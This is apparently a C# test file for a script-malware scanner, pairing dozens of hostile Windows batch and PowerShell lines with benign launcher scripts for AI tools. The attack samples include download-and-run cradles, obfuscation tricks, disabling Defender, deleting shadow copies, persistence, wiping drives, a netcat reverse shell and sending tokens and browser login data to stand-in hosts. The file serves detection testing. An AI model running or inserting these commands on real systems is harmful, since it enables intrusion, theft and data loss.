namespace Assay.Scanning.Tests.Behaviour;

/// <summary>Command scripts of Windows: attacks beside their honest twins.</summary>
public sealed class BatchTests
{
    public static TheoryData<string> Attacks =>
    [
        "@echo off\r\ncurl -s -o %TEMP%\\a.exe https://cdn.evil.invalid/a.exe\r\nstart \"\" %TEMP%\\a.exe\r\n",
        "@echo off\r\ncertutil -urlcache -split -f http://evil.invalid/x.exe x.exe\r\nx.exe\r\n",
        "bitsadmin /transfer job /download /priority high http://evil.invalid/p.exe %APPDATA%\\p.exe & start /b %APPDATA%\\p.exe",
        "powershell -w hidden -ep bypass -c \"IEX (New-Object Net.WebClient).DownloadString('http://evil.invalid/a.ps1')\"",
        "powershell -nop -c \"iwr http://evil.invalid/a.exe -OutFile $env:TEMP\\a.exe; Start-Process $env:TEMP\\a.exe\"",
        "powershell -Command \"irm https://evil.invalid/i | iex\"",
        "curl -fsSL https://evil.invalid/run.cmd | cmd",
        "curl http://evil.invalid/a.ps1 | powershell -",
        "mshta http://evil.invalid/a.hta",
        "mshta vbscript:CreateObject(\"WScript.Shell\").Run(\"powershell -c iwr http://evil.invalid/a|iex\",0)(window.close)",
        "regsvr32 /s /n /u /i:http://evil.invalid/file.sct scrobj.dll",
        "msiexec /q /i http://evil.invalid/a.msi",
        "rundll32 \\\\evil.invalid\\share\\a.dll,Start",
        "wmic os get /format:\"http://evil.invalid/a.xsl\"",
        "wmic process call create \"powershell -c iwr http://evil.invalid/a|iex\"",
        "for /f \"delims=\" %%i in ('curl -s http://evil.invalid/cmd.txt') do %%i",
        "for /f \"usebackq delims=\" %%a in (`powershell -c \"(iwr http://evil.invalid/c).Content\"`) do cmd /c %%a",
        "set a=pow\r\nset b=ersh\r\nset c=ell\r\n%a%%b%%c% -c \"iwr http://evil.invalid/a | iex\"",
        "set x=abcdefghijklmnopqrstuvwxyz\r\n%x:~2,1%%x:~20,1%%x:~17,1%%x:~11,1% -o a.exe http://evil.invalid/a.exe\r\na.exe",
        "p^o^w^e^r^s^h^e^l^l -c \"iwr http://evil.invalid/a|iex\"",
        "setlocal enabledelayedexpansion\r\nset k=XX\r\nset c=cXXurl -o a.exe http://evil.invalid/a.exe\r\nset c=!c:XX=!\r\n!c!\r\nstart a.exe",
        "po%junk%wersh%nothing%ell -c \"irm http://evil.invalid/a|iex\"",
        "%comspec:~-7,3% /c \"curl http://evil.invalid/a.bat -o b.bat && b.bat\"",
        "echo Set s=CreateObject(\"WScript.Shell\") > %temp%\\a.vbs\r\necho s.Run \"cmd /c curl -o %temp%\\x.exe http://evil.invalid/x.exe && %temp%\\x.exe\",0 >> %temp%\\a.vbs\r\ncscript //nologo %temp%\\a.vbs",
        "(\r\necho import urllib.request\r\necho exec(urllib.request.urlopen^('http://evil.invalid/p'^).read^(^)^)\r\n) > r.py\r\nreg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /d \"pythonw %cd%\\r.py\" /f",
        "@echo off\r\nnet session >nul 2>&1\r\nif %errorlevel% neq 0 (\r\n powershell -c \"Start-Process '%~f0' -Verb RunAs\"\r\n exit /b\r\n)\r\npowershell -c \"Add-MpPreference -ExclusionPath '%TEMP%'\"\r\ncurl -o %TEMP%\\s.exe http://evil.invalid/s\r\n%TEMP%\\s.exe",
        "reg add \"HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\" /v DisableAntiSpyware /t REG_DWORD /d 1 /f",
        "sc stop WinDefend\r\nsc config WinDefend start= disabled",
        "netsh advfirewall set allprofiles state off",
        "vssadmin delete shadows /all /quiet",
        "schtasks /create /sc onlogon /tn Updater /tr \"%APPDATA%\\u.exe\" /f",
        "copy %~f0 \"%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\run.bat\"",
        "rd /s /q %USERPROFILE%",
        "del /f /s /q C:\\*",
        "format d: /q /y",
        "xmrig.exe -o stratum+tcp://pool.invalid:3333 -u x",
        "nc.exe evil.invalid 4444 -e cmd.exe",
        "curl -X POST -d \"t=%HF_TOKEN%\" https://evil.invalid/c",
        "curl -F \"f=@%LOCALAPPDATA%\\Google\\Chrome\\User Data\\Default\\Login Data\" https://evil.invalid/u",
        "powershell -e " + Wide("IEX (New-Object Net.WebClient).DownloadString('http://evil.invalid/a')"),
        "certutil -decode data.b64 p.exe\r\np.exe",
        "@echo off\r\ngoto start\r\n:two\r\n%x%%y% -o a.exe http://evil.invalid/a.exe\r\nstart a.exe\r\nexit /b\r\n:start\r\nset x=cu\r\nset y=rl\r\ngoto two",
        "call set c=%%comspec%%\r\nstart /min cmd /c \"curl http://evil.invalid/p.bat>p.bat&p.bat\"",
        "powershell -NoP -Command \"(New-Object Net.WebClient).DownloadFile('http://203.0.113.7/x.zip','%TEMP%\\x.zip'); Expand-Archive -Path '%TEMP%\\x.zip' -DestinationPath '%TEMP%\\x' -Force\"\r\nstart \"\" \"%TEMP%\\x\\svc.exe\"\r\n",
        "@echo off\r\ncall :dl http://evil.invalid/x.exe %TEMP%\\x.exe\r\nstart \"\" %TEMP%\\x.exe\r\nexit /b\r\n:dl\r\ncurl -s -o %2 %1\r\nexit /b\r\n",
        "set out=%TEMP%\\%RANDOM%.exe\r\npowershell -c \"Invoke-WebRequest 'https://evil.invalid/x' -OutFile '%out%'\"\r\n\"%out%\"\r\n",
        "@if (@X)==(@Y) @end /* JScript\r\n@cscript //nologo //e:jscript \"%~f0\" & exit /b\r\n*/\r\nvar s=new ActiveXObject('WScript.Shell'); s.Run('cmd /c curl -o a.exe http://evil.invalid/a.exe && a.exe',0);",
        "powershell -c \"$c=gc '%~f0' -Raw; iex ($c -split '::PS')[-1]\"\r\nexit /b\r\n::PS\r\niex (irm http://evil.invalid/x)\r\n",
        "forfiles /p c:\\windows /m notepad.exe /c \"cmd /c curl -o %temp%\\a.exe http://evil.invalid/a.exe && %temp%\\a.exe\"",
    ];

    public static TheoryData<string> Honest =>
    [
        "@echo off\r\ncurl -L https://www.python.org/ftp/python/3.11.9/python-3.11.9-embed-amd64.zip -o python.zip\r\npowershell -Command \"Expand-Archive python.zip python_embeded\"\r\ncurl -sSL https://bootstrap.pypa.io/get-pip.py -o get-pip.py\r\npython_embeded\\python.exe get-pip.py\r\n",
        "sc query postgresql >nul\r\ntasklist | find /i \"ollama.exe\" >nul || start \"\" ollama serve\r\nollama create m -f Modelfile\r\n",
        "@echo off\r\ncd /d %~dp0\r\nif not exist venv (\r\n    python -m venv venv\r\n)\r\ncall venv\\Scripts\\activate.bat\r\npip install -r requirements.txt\r\npython launch.py %*\r\npause\r\n",
        "@echo off\r\n\r\nset PYTHON=\r\nset GIT=\r\nset VENV_DIR=\r\nset COMMANDLINE_ARGS=--xformers --api\r\n\r\ncall webui.bat\r\n",
        "@echo off\r\n\r\nif not defined PYTHON (set PYTHON=python)\r\nif not defined VENV_DIR (set \"VENV_DIR=%~dp0%venv\")\r\nset ERROR_REPORTING=FALSE\r\nmkdir tmp 2>NUL\r\n%PYTHON% -c \"\" >tmp/stdout.txt 2>tmp/stderr.txt\r\nif %ERRORLEVEL% == 0 goto :check_pip\r\necho Couldn't launch python\r\ngoto :show_stdout_stderr\r\n:check_pip\r\n%PYTHON% -mpip --help >tmp/stdout.txt 2>tmp/stderr.txt\r\nif %ERRORLEVEL% == 0 goto :start_venv\r\n:start_venv\r\nfor /f \"delims=\" %%i in ('CALL %PYTHON% -c \"import sys; print(sys.executable)\"') do set PYTHON_FULLNAME=\"%%i\"\r\n%PYTHON_FULLNAME% -m venv \"%VENV_DIR%\" >tmp/stdout.txt 2>tmp/stderr.txt\r\n%PYTHON% launch.py %*\r\npause\r\nexit /b\r\n:show_stdout_stderr\r\nfor /f %%i in (\"tmp\\stdout.txt\") do set size=%%~zi\r\ntype tmp\\stdout.txt\r\npause\r\n",
        "@echo off\r\n.\\python_embeded\\python.exe -s ComfyUI\\main.py --windows-standalone-build\r\npause\r\n",
        "@echo off\r\ngit pull\r\nconda activate llm\r\npip install torch --index-url https://download.pytorch.org/whl/cu121\r\npython server.py --listen\r\n",
        "curl -L -o model.gguf https://huggingface.co/org/model/resolve/main/model.gguf\r\nllama-cli.exe -m model.gguf -p \"hi\"\r\n",
        "where python >nul 2>nul\r\nif errorlevel 1 (\r\n  winget install Python.Python.3.11\r\n)\r\npy -3 setup.py build\r\n",
        "@echo off\r\nset CUDA_VISIBLE_DEVICES=0\r\nstart http://127.0.0.1:7860\r\npython app.py\r\n",
        "@echo off\r\nset \"INSTALL_DIR=%cd%\\installer_files\"\r\nset \"CONDA_ROOT_PREFIX=%cd%\\installer_files\\conda\"\r\nset MINICONDA_DOWNLOAD_URL=https://repo.anaconda.com/miniconda/Miniconda3-py311_23.9.0-0-Windows-x86_64.exe\r\nset conda_exists=F\r\ncall \"%CONDA_ROOT_PREFIX%\\_conda.exe\" --version >nul 2>&1\r\nif \"%ERRORLEVEL%\" EQU \"0\" set conda_exists=T\r\nif \"%conda_exists%\" == \"F\" (\r\n echo Downloading\r\n mkdir \"%INSTALL_DIR%\"\r\n call curl -Lk \"%MINICONDA_DOWNLOAD_URL%\" > \"%INSTALL_DIR%\\miniconda_installer.exe\" || ( echo. && echo failed && goto end )\r\n)\r\ncall \"%CONDA_ROOT_PREFIX%\\condabin\\conda.bat\" activate \"%INSTALL_ENV_DIR%\"\r\ncall python one_click.py %*\r\n:end\r\npause\r\n",
        "@echo off\r\nfor %%f in (models\\*.bin) do (\r\n  python convert.py \"%%f\" --outtype f16\r\n)\r\n",
        "@echo off\r\necho Cleaning\r\nrmdir /s /q build dist\r\ndel /q *.spec\r\nrd /s /q __pycache__\r\n",
        "@echo off\r\nfor /f \"tokens=2 delims=:\" %%a in ('ipconfig ^| findstr IPv4') do set IP=%%a\r\necho Open http://%IP%:7860\r\npython app.py\r\n",
        "@echo off\r\npowershell -Command \"Invoke-WebRequest -Uri https://huggingface.co/org/m/resolve/main/m.safetensors -OutFile models\\m.safetensors\"\r\n",
        "@echo off\r\npowershell -Command \"Expand-Archive -Path model.zip -DestinationPath .\"\r\npowershell -NoProfile -ExecutionPolicy Bypass -File scripts\\setup.ps1\r\n",
        "@echo off\r\nsetlocal enabledelayedexpansion\r\nset /a n=0\r\nfor %%f in (*.safetensors) do (\r\n set /a n+=1\r\n set file[!n!]=%%f\r\n echo !n!: %%f\r\n)\r\nset /p choice=Choose: \r\npython run.py --model !file[%choice%]!\r\n",
        "net session >nul 2>&1\r\nif %errorlevel% neq 0 (echo Please run as administrator & pause & exit)\r\nreg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\FileSystem /v LongPathsEnabled /t REG_DWORD /d 1 /f\r\n",
    ];

    [Theory]
    [MemberData(nameof(Attacks))]
    public void An_attack_is_malicious(string code) => BehaviourAssert.Malicious("start.bat", code);

    [Theory]
    [MemberData(nameof(Honest))]
    public void An_honest_script_is_clean(string code) => BehaviourAssert.Clean("start.bat", code);

    [Theory]
    [InlineData("python loader.py", "loader.py")]
    [InlineData("start \"\" tool.exe", "tool.exe")]
    [InlineData("call other.bat", "other.bat")]
    [InlineData("powershell -ExecutionPolicy Bypass -File .\\x.ps1", "x.ps1")]
    [InlineData("\"%~dp0bin\\run.exe\" --x", "bin/run.exe")]
    [InlineData("py -3 \"%~dp0loader.py\"", "loader.py")]
    [InlineData("wscript //b hidden.vbs", "hidden.vbs")]
    public void A_file_beside_the_script_is_named(string code, string file)
    {
        var acts = BehaviourAssert.Acts(CodeLanguage.Batch, code);
        Assert.True(acts.Any(a => a.Deed == Deed.RunSibling && a.Files.Contains(file)), BehaviourAssert.Describe(acts));
    }

    [Fact]
    public void Damaged_scripts_are_read_without_failing()
    {
        foreach (var row in Attacks)
            BehaviourAssert.IsTotal(CodeLanguage.Batch, row.Data);
    }

    private static string Wide(string text) => Convert.ToBase64String(System.Text.Encoding.Unicode.GetBytes(text));
}
